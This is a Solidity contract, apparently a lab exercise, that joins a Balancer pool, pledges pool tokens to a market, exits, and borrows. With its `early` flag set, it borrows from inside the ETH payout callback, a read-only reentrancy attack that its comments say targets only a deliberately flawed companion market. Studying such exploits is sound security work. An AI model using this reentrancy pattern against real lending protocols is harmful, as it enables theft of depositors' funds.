// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.36;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IBalancerPool, IBalancerVault} from "./BalancerV2.sol";
import {PoolTokenMarket} from "./PoolTokenMarket.sol";

/// @title Joins a Balancer pool, pledges a part of it, leaves with the rest, and borrows
/// @notice FOR A LOCAL NODE ONLY. Borrowing after it left is what honest people do; borrowing from
/// within the payment (`early`) is an attack, which works against nothing but the deliberately flawed
/// `PoolTokenMarket` beside it.
contract PoolTokenBorrower {
    uint256 private constant EXACT_TOKENS_IN = 1;
    uint256 private constant EXACT_SHARES_IN = 1;

    PoolTokenMarket private immutable _market;
    IBalancerVault private immutable _vault;
    IBalancerPool private immutable _pool;
    address private immutable _owner;
    uint256 private _early;

    constructor(PoolTokenMarket market, IBalancerPool pool, IERC20 other, address owner) {
        (_market, _vault, _pool, _owner) = (market, market.vault(), pool, owner);
        pool.approve(address(market), type(uint256).max);
        other.approve(address(_vault), type(uint256).max);
    }

    /// @param assets The pool's tokens in its order, the zero address for coins.
    /// @param amounts What to join with; coins come along, tokens are here already.
    function run(
        address[] calldata assets,
        uint256[] calldata amounts,
        uint256 pledge,
        uint256 loan,
        bool early
    ) external payable {
        require(msg.sender == _owner);
        _join(assets, amounts);
        _market.pledge(_pool, pledge);
        _early = early ? loan : 0;
        _leave(assets);
        if (!early) _market.borrow(_pool, loan);
        IERC20 asset = _market.asset();
        asset.transfer(_owner, asset.balanceOf(address(this)));
        (bool paid,) = _owner.call{value: address(this).balance}("");
        require(paid);
    }

    function _join(address[] calldata assets, uint256[] calldata amounts) private {
        bytes memory terms = abi.encode(EXACT_TOKENS_IN, amounts, 0);
        IBalancerVault.Change memory change =
            IBalancerVault.Change(assets, amounts, terms, false);
        _vault.joinPool{value: msg.value}(
            _pool.getPoolId(), address(this), address(this), change
        );
    }

    function _leave(address[] calldata assets) private {
        bytes memory terms = abi.encode(EXACT_SHARES_IN, _pool.balanceOf(address(this)));
        IBalancerVault.Change memory change =
            IBalancerVault.Change(assets, new uint256[](assets.length), terms, false);
        _vault.exitPool(_pool.getPoolId(), address(this), payable(address(this)), change);
    }

    receive() external payable {
        uint256 loan = _early;
        _early = 0;
        if (loan > 0) _market.borrow(_pool, loan);
    }
}
